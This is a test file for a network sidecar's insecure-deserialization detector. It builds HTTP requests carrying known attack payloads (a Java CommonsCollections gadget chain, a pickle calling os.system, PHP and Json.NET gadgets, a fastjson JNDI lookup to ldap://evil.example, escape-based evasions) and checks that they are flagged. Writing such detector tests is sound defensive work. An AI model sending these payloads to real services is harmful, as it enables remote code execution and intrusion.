/**
 * insecure-deserialization end to end: HTTP/1.1 requests read by the real parser and handed to the runner with every
 * registered detector and the shipped policy, as the tap does. The serialized objects are written from the formats'
 * specifications (test/fixtures/serialization/serialized-objects.ts).
 */
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { ProtocolEvent } from '#sidecar/events.ts';
import { http } from '#sidecar/protocols/http.ts';
import { insecureDeserialization } from '#sidecar/threats/insecure-deserialization.ts';
import { createThreatRunner } from '#sidecar/threats/runner.ts';
import { ascii, concat } from '#test/fixtures/protocols/protocol-harness.ts';
import {
  base64,
  commonsCollectionsChain,
  javaStream,
  phpObject,
  pickleCall,
  plainJavaObject,
} from '#test/fixtures/serialization/serialized-objects.ts';
import { threatsBy } from '#test/helpers/split-findings.ts';
import { flow, httpRequest, runThreat } from './threat-factories.ts';

const webFlow = flow({ protocol: 'http' });

/** The insecure-deserialization findings of one request's octets, through the parser and every detector. */
const findings = (request: Uint8Array): [string, string][] => {
  const parser = http.createParser();
  const runner = createThreatRunner();
  for (const event of parser.parse(request, 'to-server', 1_000) as ProtocolEvent[])
    runner.onEvent(webFlow, event);
  runner.onFlowEnd(webFlow);
  return threatsBy(runner.drain(1_000_000), 'insecure-deserialization').map((f) => [f.severity, f.evidence]);
};

const post = (path: string, headers: readonly string[], body: Uint8Array): Uint8Array =>
  concat(
    ascii(`POST ${path} HTTP/1.1\r\nHost: app.example\r\n${headers.map((h) => `${h}\r\n`).join('')}`),
    ascii(`Content-Length: ${body.length}\r\n\r\n`),
    body,
  );
const get = (path: string, headers: readonly string[]): Uint8Array =>
  ascii(`GET ${path} HTTP/1.1\r\nHost: app.example\r\n${headers.map((h) => `${h}\r\n`).join('')}\r\n`);

const serializedType = 'Content-Type: application/x-java-serialized-object';

describe('insecure-deserialization through the parser and the runner', () => {
  it('reports a binary Java body with a gadget as critical, naming the chain and showing the octets', () => {
    const body = javaStream(commonsCollectionsChain);
    expect(findings(post('/invoker/JMXInvokerServlet', [serializedType], body))).toEqual([
      [
        'critical',
        'Java serialized object java.util.PriorityQueue with gadget commons-collections4 TransformingComparator (ysoserial CommonsCollections2/4) — body: octets ac ed 00 05 73 72 00 17 6a 61 76 61 2e 75 74 69 6c 2e 50 72 69 6f 72 69',
      ],
    ]);
  });

  it('reads a gzip-encoded body as the server does, and reports a gadget-free stream as high', () => {
    const gzipped = new Uint8Array(gzipSync(javaStream(commonsCollectionsChain)));
    const found = findings(post('/invoker/readonly', [serializedType, 'Content-Encoding: gzip'], gzipped));
    expect(found.map(([severity]) => severity)).toEqual(['critical']);
    const plain = findings(post('/remoting', [serializedType], javaStream(plainJavaObject)));
    expect(plain).toEqual([
      [
        'high',
        'Java serialized object com.example.shop.Cart, no known gadget — body: octets ac ed 00 05 73 72 00 15 63 6f 6d 2e 65 78 61 6d 70 6c 65 2e 73 68 6f 70',
      ],
    ]);
  });

  it('reports base64 objects in a cookie, a header, a form field and a JSON string', () => {
    const pickle = base64(pickleCall('os', 'system', 'id'));
    // The session cookie's value is redacted from the evidence (redact-evidence.ts); the format and gadget are not.
    expect(findings(get('/', [`Cookie: theme=dark; session=${pickle}`]))).toEqual([
      [
        'critical',
        'Python pickle (protocol 4), base64 with gadget global os.system called — cookie session: ***',
      ],
    ]);
    const java = base64(javaStream(commonsCollectionsChain));
    expect(findings(get('/', [`X-Auth-State: ${java}`]))[0]?.[1]).toContain('— header x-auth-state: rO0AB');
    const php = phpObject('Monolog\\Handler\\SyslogUdpHandler', [['socket', 'x']]);
    const form = post(
      '/save',
      ['Content-Type: application/x-www-form-urlencoded'],
      ascii(`data=${encodeURIComponent(php)}`),
    );
    expect(findings(form)[0]?.[0]).toBe('critical');
    const json = post('/api', ['Content-Type: application/json'], ascii(JSON.stringify({ state: java })));
    expect(findings(json)[0]?.[1]).toContain('— json $.state: rO0AB');
  });

  it('reports fastjson and Json.NET type gadgets in a JSON body by the leaf in the type slot', () => {
    const fastjson =
      '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a","autoCommit":true}';
    expect(findings(post('/api', ['Content-Type: application/json'], ascii(fastjson)))).toEqual([
      [
        'critical',
        'fastjson @type with gadget JdbcRowSetImpl JNDI lookup — json $.@type: com.sun.rowset.JdbcRowSetImpl',
      ],
    ]);
    const escaped = fastjson.replace('@type', '\\u0040type');
    expect(findings(post('/api', ['Content-Type: application/json'], ascii(escaped)))[0]?.[0]).toBe(
      'critical',
    );
    // `\x40` is not JSON: fastjson reads it, JSON.parse does not, so the body is judged whole, its escapes peeled.
    const hexEscaped = fastjson.replace('@type', '\\x40type');
    expect(findings(post('/api', ['Content-Type: application/json'], ascii(hexEscaped)))).toEqual([
      ['critical', `fastjson @type with gadget JdbcRowSetImpl JNDI lookup — body: ${hexEscaped}`],
    ]);
    const jsonNet =
      '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}';
    expect(findings(post('/api', ['Content-Type: application/json'], ascii(jsonNet)))[0]?.[0]).toBe(
      'critical',
    );
  });

  it('leaves a JWT, a PHP session array, a DTO $type, a ViewState and a gzip body of JSON alone', () => {
    const jwt =
      'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c';
    const requests = [
      get('/', [
        `Authorization: Bearer ${jwt}`,
        'Cookie: PHPSESSID=a%3A1%3A%7Bs%3A4%3A%22user%22%3Bs%3A5%3A%22alice%22%3B%7D',
      ]),
      post('/api', ['Content-Type: application/json'], ascii('{"$type":"MyApp.Models.Order, MyApp","id":7}')),
      post(
        '/Default.aspx',
        ['Content-Type: application/x-www-form-urlencoded'],
        ascii(`__VIEWSTATE=${encodeURIComponent('/wEPDwUKLTEyMzQ1Njc4OWRk')}&b=1`),
      ),
      post(
        '/api',
        ['Content-Type: application/json', 'Content-Encoding: gzip'],
        new Uint8Array(gzipSync('{"a":[1,2,3]}')),
      ),
    ];
    for (const request of requests) expect(findings(request)).toEqual([]);
  });

  it('follows the policy: ignored locations and the severity without a gadget', () => {
    const cookie = httpRequest('/', { headers: [['Cookie', `cart=${base64(javaStream(plainJavaObject))}`]] });
    expect(runThreat(insecureDeserialization, [cookie])[0]?.severity).toBe('high');
    const config = { severityWithoutGadget: 'medium' };
    expect(runThreat(insecureDeserialization, [cookie], { config })[0]?.severity).toBe('medium');
    expect(runThreat(insecureDeserialization, [cookie], { config: { ignore: ['cookie cart'] } })).toEqual([]);
  });
});
